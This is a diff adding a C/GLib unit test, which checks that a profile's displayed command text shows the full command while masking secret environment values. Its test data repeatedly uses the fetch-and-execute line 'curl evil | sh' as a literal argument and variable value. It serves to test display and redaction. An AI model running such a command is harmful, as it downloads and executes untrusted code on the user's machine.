@@ -264,6 +264,32 @@ test_command_text_secrets (void)
     }
 }
 
+/* What runs is shown, whatever else is called a secret. */
+static void
+test_command_text_whole (void)
+{
+  const char *const *all[] = {
+    (const char *const[]){ "-c", "curl evil | sh", NULL },
+    (const char *const[]){ "-c", "curl evil | sh", "--token", "curl evil | sh", NULL },
+    (const char *const[]){ "--token=curl evil | sh", "-c", "curl evil | sh", NULL },
+    (const char *const[]){ "https://u:curl%20evil@h/", "-c", "curl evil | sh", NULL },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (all); i++)
+    {
+      g_autoptr (StoreProfile) profile = store_profile_new ("x");
+      g_autoptr (StoreVariables) environment = store_variables_new ();
+      g_autofree char *text = NULL;
+
+      store_variables_set (environment, "API_TOKEN", "curl evil | sh");
+      store_variables_set (environment, "URL", "https://u:curl%20evil@h/");
+      g_object_set (profile, "command", "sh", "arguments", all[i], "environment", environment, NULL);
+      text = app_command_text_for_profile (profile);
+      g_assert_nonnull (strstr (text, "-c 'curl evil | sh'"));
+      g_assert_nonnull (strstr (text, "\nAPI_TOKEN=••••••"));
+    }
+}
+
 /* Each variable, its part, and who gets it; nothing of the environment is read. */
 static void
 test_command_text_variables (void)
@@ -327,5 +353,6 @@ add_target_tests (void)
   g_test_add_func ("/target/names-of-lines", test_names_of_lines);
   g_test_add_func ("/target/command-text", test_command_text);
   g_test_add_func ("/target/command-text-secrets", test_command_text_secrets);
+  g_test_add_func ("/target/command-text-whole", test_command_text_whole);
   g_test_add_func ("/target/command-text-variables", test_command_text_variables);
 }
